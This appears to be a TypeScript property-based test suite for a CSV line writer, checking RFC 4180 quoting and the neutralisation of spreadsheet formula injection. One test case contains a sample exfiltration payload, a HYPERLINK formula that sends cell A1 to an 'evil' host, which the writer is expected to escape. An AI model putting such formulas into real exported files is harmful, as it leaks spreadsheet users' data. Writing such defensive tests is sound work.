import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.ts';

/** Parses character by character by the grammar of RFC 4180, without the writer's shortcuts. */
function parseCsv(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      at += 1;
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (at >= text.length) throw new Error('a quote is not closed');
        cell += text[at];
        at += text[at] === '"' ? 2 : 1;
      }
      at += 1;
    } else {
      while (at < text.length && text[at] !== ',' && text[at] !== '\r' && text[at] !== '\n') {
        if (text[at] === '"') throw new Error('a quote inside a bare cell');
        cell += text[at];
        at += 1;
      }
    }
    line.push(cell);
    if (text[at] === ',') {
      at += 1;
      continue;
    }
    if (text.slice(at, at + 2) !== '\r\n') throw new Error(`no line end at ${at}`);
    at += 2;
    lines.push(line);
    line = [];
  }
  return lines;
}

/** As spreadsheets and Python read it: text after a closing quote belongs to the cell, nothing is an error. */
function readAs(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isBegun = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text[at] ?? '';
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (sign === '"' && !isBegun) {
      isQuoted = true;
      isBegun = true;
    } else if (sign === separator || sign === '\n') {
      cells.push(cell);
      [cell, isBegun] = ['', false];
    } else {
      cell += sign;
      isBegun = true;
    }
  }
  return [...cells, cell];
}

const hostile = fc.string({
  unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', '=', '+', '-', '@', '＝', "'", ' ', 'a', '日', '🚀'),
});
const cell = fc.oneof(
  hostile,
  fc.string({ unit: 'grapheme' }),
  fc.double({ noNaN: true }),
  fc.boolean(),
  fc.constant(null),
);
const SIGNS = '=+-@＝＋－＠';

/**
 * Character by character: adds an apostrophe before a text that starts like a formula, and before each sign
 * that starts a part.
 */
function safe(text: string): string {
  let written = SIGNS.includes(text.trimStart()[0] ?? 'a') || /^[\t\r]/.test(text) ? "'" : '';
  let begins = false;
  for (const sign of text) {
    if (begins && SIGNS.includes(sign)) written += "'";
    written += sign;
    if (';\t\r\n'.includes(sign)) begins = true;
    else if (!`"'`.includes(sign) && sign.trim() !== '') begins = false;
  }
  return written;
}

describe('csvLine', () => {
  it('is read back as written by an independent reader', () => {
    const line = fc.array(cell, { minLength: 2, maxLength: 20 });
    fc.assert(
      fc.property(fc.array(line, { maxLength: 8 }), (lines) => {
        const expected = lines.map((cells) =>
          cells.map((value) =>
            typeof value === 'string' ? safe(value) : value === null ? '' : String(value),
          ),
        );
        expect(parseCsv(lines.map(csvLine).join(''))).toEqual(expected);
      }),
      { seed: 4, numRuns: 2_000 },
    );
  });

  it('never lets a text start like a formula, with any list separator', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const [[first = ''] = []] = parseCsv(csvLine([text, 1]));
        expect(first).not.toMatch(/^[\t\r]/);
        for (const part of first.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
      { seed: 4, numRuns: 2_000 },
    );
  });

  it.each([',', ';', '\t'])('has no formula in any cell when it is read with %j', (separator) => {
    const line = fc.array(hostile, { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(line, (cells) => {
        for (const read of readAs(csvLine(['x', ...cells]), separator))
          expect(read).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
      }),
      { seed: 4, numRuns: 5_000 },
    );
    for (const text of ['a;"=1+1;b', 'a\t"=1+1\tb', `a;'" =1+1;b`, 'a\n"=1+1'])
      for (const read of readAs(csvLine(['x', text]), separator)) expect(read).not.toMatch(/^\s*=/);
  });

  it('neutralises known injection tricks', () => {
    expect(csvLine(['x\t=2', 'a;=HYPERLINK("http://evil/?"&A1)', ' =1', '＝1+1'])).toBe(
      `"x\t'=2","a;'=HYPERLINK(""http://evil/?""&A1)",' =1,'＝1+1\r\n`,
    );
  });

  it('quotes only where necessary', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'x\ny', null, -1.5, true, ' pad ', '-1', '=1+1'])).toBe(
      `a,"b,c","say ""hi""","x\ny",,-1.5,true, pad ,'-1,'=1+1\r\n`,
    );
  });
});
